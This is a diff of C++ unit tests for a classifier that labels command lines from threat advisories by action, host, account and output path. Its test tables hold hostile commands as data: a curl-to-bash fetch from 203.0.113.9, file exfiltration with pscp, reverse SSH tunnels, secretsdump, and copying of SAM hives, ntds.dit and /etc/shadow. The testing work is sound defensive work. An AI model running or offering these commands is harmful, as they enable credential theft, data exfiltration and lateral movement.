@@ -1,5 +1,9 @@
 // What lines mean: the advisories' commands, everyday lines beside them, arguments, renamed programs, shapes.
 
+#include <string>
+#include <tuple>
+#include <vector>
+
 #include <gtest/gtest.h>
 
 #include "command/reading_testing.h"
@@ -38,7 +42,7 @@ TEST(Actions, OfTheAdvisoriesLines) {
       {"certutil -urlcache -split -f http://203.0.113.9/a.exe c:\\a.exe", "download", "to", R"(c:\a.exe)"},
       {"sc \\\\FS02 create upd binPath= \"cmd /c whoami\"", "service_create", "host", "FS02"},
       {"schtasks /create /s FS02 /tn upd /tr \"cmd /c whoami\" /sc onstart", "task_create", "host", "FS02"},
-      {"ssh -R 9999:127.0.0.1:3389 op7@203.0.113.9", "tunnel_open", "host", "op7@203.0.113.9"},
+      {"ssh -R 9999:127.0.0.1:3389 op7@203.0.113.9", "tunnel_open", "host", "203.0.113.9"},
   };
   for (const Meant& meant : table) {
     const Reading reading = read(meant.line);
@@ -46,6 +50,105 @@ TEST(Actions, OfTheAdvisoriesLines) {
     if (meant.role.empty()) continue;
     EXPECT_EQ(reading.argument(meant.role), meant.value) << meant.line;
   }
+}
+
+/// What is done where and as whom, of tools that write it each in its own way.
+TEST(Actions, SayTheHostsAndAccountsTheyGoTo) {
+  const std::tuple<std::string_view, std::string_view, std::string_view, std::string_view> table[] = {
+      // line, action, host, account
+      {R"(netsh -r FS02 -u corp\op7 -p Pa55 int portp a v4tov4 9999 10.1.2.3 8443)", "port_proxy_add", "FS02",
+       R"(corp\op7)"},
+      {R"(wmic /node:"FS02" /user:"corp\op7" /password:x process call create calc)",
+       "wmi_process_create_remote", "FS02", R"(corp\op7)"},
+      {R"(reg save \\FS02\HKLM\SAM s.hiv)", "hive_save", "FS02", ""},
+      {R"(wevtutil epl Security c:\s.evtx /r:FS02 /u:corp\op7)", "logon_events_read", "FS02", R"(corp\op7)"},
+      {R"(schtasks /create /tn x /tr calc /s FS02 /u corp\op7 /p y)", "task_create", "FS02", R"(corp\op7)"},
+      {"winrs -r:http://FS02:5985 ipconfig", "remote_command_run", "FS02", ""},
+      {R"(psexec @hosts.txt -c -d C:\a.exe)", "remote_command_run", "@hosts.txt", ""},
+      {R"(psexec \\FS02,FS03 cmd)", "remote_command_run", "FS02 FS03", ""},
+      {"ssh -D 1080 -N op7@203.0.113.9", "tunnel_open", "203.0.113.9", "op7"},
+      {"plink -ssh -l root -pw x -R 9999:10.1.1.1:3389 203.0.113.9", "tunnel_open", "203.0.113.9", "root"},
+      {R"(pscp -pw x c:\t\a.7z root@203.0.113.9:/tmp/)", "file_copy_remote", "203.0.113.9", "root"},
+      {"scp -P 2222 root@10.1.1.1:/etc/shadow .", "file_copy_remote", "10.1.1.1", "root"},
+      {"wmiexec.py corp/op7:Pa55@10.1.1.1 whoami", "remote_command_run", "10.1.1.1", "corp/op7"},
+      {"secretsdump.py corp/op7@dc01.corp.example", "credential_tool_run", "dc01.corp.example", "corp/op7"},
+      {R"(net use \\FS02\c$ /user:corp\op7 x)", "admin_share_use", "FS02", R"(corp\op7)"},
+      {R"(copy C:\t\a.exe \\FS02\c$\a.exe)", "file_copy_remote", "FS02", ""},
+      {R"(copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy3\Windows\NTDS\ntds.dit c:\t)",
+       "protected_file_copy", "", ""},
+      {R"(powershell Enter-PSSession -ComputerName FS02 -Credential corp\op7)", "remote_command_run", "FS02",
+       R"(corp\op7)"},
+      {"powershell icm -cn FS02,FS03 { whoami }", "remote_command_run", "FS02 FS03", ""},
+      {"dnscmd DC01 /enumrecords corp.example . /additional", "dns_zone_list", "DC01", ""},
+      {"ew -s rssocks -d 203.0.113.9 -e 8888", "tunnel_open", "203.0.113.9", ""},
+  };
+  for (const auto& [line, action, host, account] : table) {
+    const Reading reading = read(line);
+    EXPECT_EQ(reading.main, action) << line;
+    EXPECT_EQ(reading.all("host"), host) << line;
+    EXPECT_EQ(reading.all("account"), account) << line;
+  }
+}
+
+TEST(Actions, SayWhereTheyWriteTo) {
+  const std::tuple<std::string_view, std::string_view, std::string_view> table[] = {
+      {R"(cmd /c systeminfo > C:\Users\Public\systeminfo.dat)", "system_info",
+       R"(C:\Users\Public\systeminfo.dat)"},
+      {"cmd /c whoami 2>&1 > nul", "self_query", ""},
+      {R"(cmd /c dir /s \\FS02\c$\Users >> c:\t\x.tmp)", "file_list_remote", R"(c:\t\x.tmp)"},
+      {R"(powershell Get-EventLog security -instanceid 4624 > C:\t\user.dat)", "logon_events_read",
+       R"(C:\t\user.dat)"},
+      {R"(esentutl /y /vss c:\windows\ntds\ntds.dit /d c:\t\n.dit)", "protected_file_copy", R"(c:\t\n.dit)"},
+      {R"(7z x a.7z -oC:\t)", "archive_extract", R"(C:\t)"},
+      {R"(tar xf a.tar -C c:\t)", "archive_extract", R"(c:\t)"},
+      {R"(net share x=C:\)", "share_create", ""},
+      {"route print", "neighbours_list", ""},
+      {"route add 10.0.0.0 mask 255.0.0.0 10.1.1.1", "network_config_change", "10.1.1.1"},
+      {R"(attrib +h +s C:\x)", "file_hide", ""},
+      {"sl.exe -bhpt 21,22 10.0.0.1-254", "port_scan", ""},
+      {"find / -perm -4000 -type f", "setuid_list", ""},
+      {"dscl . -create /Users/op7", "account_create", ""},
+      {"dscl . -list /Users", "account_list", ""},
+  };
+  for (const auto& [line, action, to] : table) {
+    const Reading reading = read(line);
+    EXPECT_EQ(reading.main, action) << line;
+    EXPECT_EQ(reading.all("to"), to) << line;
+  }
+  EXPECT_EQ(read(R"(esentutl /y /vss c:\a /d c:\b)").argument("from"), R"(c:\a)");
+  EXPECT_EQ(read(R"(attrib +h +s C:\x)").argument("what"), R"(C:\x)");
+  EXPECT_EQ(read(R"(psexec @hosts.txt -c -d C:\a.exe)").argument("command"), R"(C:\a.exe)");
+  EXPECT_EQ(read("touch -r /bin/ls /tmp/a").argument("what"), "/tmp/a");
+}
+
+/// Of actions that weigh the same, what is carried says more than what carries it.
+TEST(Actions, OfWhatIsCarriedSpeakForTheLine) {
+  const Reading reading = read(
+      R"(schtasks /create /s FS02 /tn u /tr "wmic /node:DC01 process call create \"cmd /c powershell -enc )" +
+      encoded_command(R"(ntdsutil "ac i ntds" ifm "create full C:\t" q q)") + R"(\"")");
+  EXPECT_EQ(reading.main, "ntds_copy");
+  EXPECT_EQ(reading.argument("to"), R"(C:\t)");
+  EXPECT_TRUE(reading.has("wmi_process_create_remote") && reading.has("task_create"));
+  EXPECT_EQ(read(R"(rundll32 shell32.dll,ShellExec_RunDLL cmd /c whoami)").actions,
+            (std::vector<std::string>{"proxy_execution", "shell_run", "self_query"}));
+}
+
+TEST(Actions, WhoseCommandsStandElsewhereAreNotResolved) {
+  for (const std::string_view line :
+       {R"(netsh -f C:\t\n.txt)", R"(diskshadow /s C:\t\d.txt)", R"(powershell -File C:\t\a.ps1)",
+        R"(cmd /c ntdsutil < C:\t\n.txt)", "curl -s http://203.0.113.9/a.sh | bash",
+        R"(mshta vbscript:Execute("x"))", R"(wscript C:\t\a.vbs)"})
+    EXPECT_FALSE(read(line).unresolved.empty()) << line;
+  for (const std::string_view line :
+       {"netsh interface show interface", "cmd /c echo whoami | cmd", "echo aWQ= | base64 -d | bash"})
+    EXPECT_TRUE(read(line).unresolved.empty()) << line << ": " << read(line).unresolved.front();
+}
+
+/// Without being told which shell read the line.
+TEST(Actions, OfLinesOfAShellThatIsGuessed) {
+  EXPECT_TRUE(read("echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | bash").has("password_file_read"));
+  EXPECT_EQ(read("for /L %i in (1,1,254) do @ping -n 1 10.0.0.%i").main, "host_probe");
+  EXPECT_EQ(read("for i in a b; do cat /etc/shadow; done").main, "password_file_read");
 }
 
 TEST(Actions, OfEverydayLinesThatLookAlike) {
